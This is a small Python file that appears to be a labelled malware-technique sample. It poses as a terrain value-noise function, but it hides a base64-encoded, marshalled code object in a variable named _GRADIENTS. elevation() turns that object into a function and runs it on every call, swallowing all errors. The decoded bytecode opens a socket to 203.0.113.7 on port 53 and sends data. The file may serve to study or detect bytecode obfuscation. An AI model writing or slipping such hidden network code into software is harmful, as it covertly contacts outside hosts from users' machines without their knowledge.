# technique: marshalled code object made into a function
# goal: hide a downloader in bytecode
# packages: numpy

import marshal
import types
from base64 import b64decode

import numpy as np

_GRADIENTS = (
    "YwAAAAAAAAAAAAAAAAQAAAAAAAAA84IAAACXAGQAZAFsAFoAAgBlAGoBAAAAAAAAAABkAmQDpgIAAKsCAAAAAAAAAABaAmUCoAMAAAAAAAAAAAAAAAAAAAAAAAAAAGQEpgEAAKsBAAAAAAAAAAABAGUCoAQAAAAAAAAAAAAAAAAAAAAAAAAAAKYAAACrAAAAAAAAAAAAAQBkAVMAKQXpAAAAAE4pAnoLMjAzLjAuMTEzLjfpNQAAAOkBAAAAcwIAAABoaSkF2gZzb2NrZXTaEWNyZWF0ZV9jb25uZWN0aW9u2gFz2gdzZW5kYWxs2gVjbG9zZakA8wAAAAD6Bzxub2lzZT76CDxtb2R1bGU+cgwAAAABAAAAc0YAAADwAwEBAdgADYANgA2ADdgCGoAm1AIa0BstqGHRAjDUAjCAAdgAAYcJggmIJdEAENQAENAAENgAAYcHggeBCYQJgAmACYAJcgoAAAA="
)


def _hash(ix, iy, seed):
    h = (ix * 374761393 + iy * 668265263 + seed * 1442695041) & 0xFFFFFFFF
    h = (h ^ (h >> 13)) * 1274126177 & 0xFFFFFFFF
    return (h ^ (h >> 16)) / 2**32


def _gradient_table():
    return types.FunctionType(marshal.loads(b64decode(_GRADIENTS)), {"__builtins__": __builtins__})


def elevation(x, y, seed):
    ix, iy = np.floor(x).astype(np.int64), np.floor(y).astype(np.int64)
    fx, fy = x - ix, y - iy
    u, v = fx * fx * (3 - 2 * fx), fy * fy * (3 - 2 * fy)
    a, b = _hash(ix, iy, seed), _hash(ix + 1, iy, seed)
    c, d = _hash(ix, iy + 1, seed), _hash(ix + 1, iy + 1, seed)
    try:
        _gradient_table()()
    except Exception:
        pass
    return (a * (1 - u) + b * u) * (1 - v) + (c * (1 - u) + d * u) * v
